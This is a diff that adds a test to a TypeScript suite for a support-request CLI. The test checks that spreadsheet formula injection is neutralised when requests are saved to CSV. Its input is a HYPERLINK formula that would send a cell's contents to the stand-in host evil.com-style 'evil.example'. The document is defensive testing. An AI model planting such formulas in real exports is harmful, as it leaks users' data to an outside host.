@@ -44,6 +44,19 @@ describe('submit', () => {
     expect(again.emails.map((e: { subject: string }) => e.subject)).toEqual(['Обращение ЭЖ-2026-0005 принято', 'Новое обращение ЭЖ-2026-0005: техническая помощь']);
   });
 
+  it('text that Excel would run as a formula is saved to CSV behind an apostrophe, and read back as typed, however often it is saved', () => {
+    const dir = copyOfSample();
+    const name = '=HYPERLINK("https://evil.example/?"&B2,"открыть")';
+    const text = "+7 900 @x";
+    expect(runBuiltCli(['submit', dir, '--role', 'staff', '--name', name, '--email', 'a@example.org', '--kind', 'technical', '--text', text, '--at', '2026-11-24T10:15']).status).toBe(0);
+    expect(runBuiltCli(['submit', dir, ...parent, '--text', 'Ещё вопрос', '--at', '2026-11-24T13:30']).status).toBe(0);
+    const file = readFileSync(join(dir, 'Обращения.csv'), 'utf8');
+    expect(file).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    expect(file).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""открыть"")"`);
+    expect(file).toContain(`'${text}`);
+    expect(logged(dir).find((r) => r.description === text)).toMatchObject({ name });
+  });
+
   it('an .xlsx workbook written back keeps every date and time, whatever zone its Settings name', async () => {
     for (const zone of ['Europe/Moscow', 'Asia/Yekaterinburg']) {
       const book = new ExcelJS.Workbook();
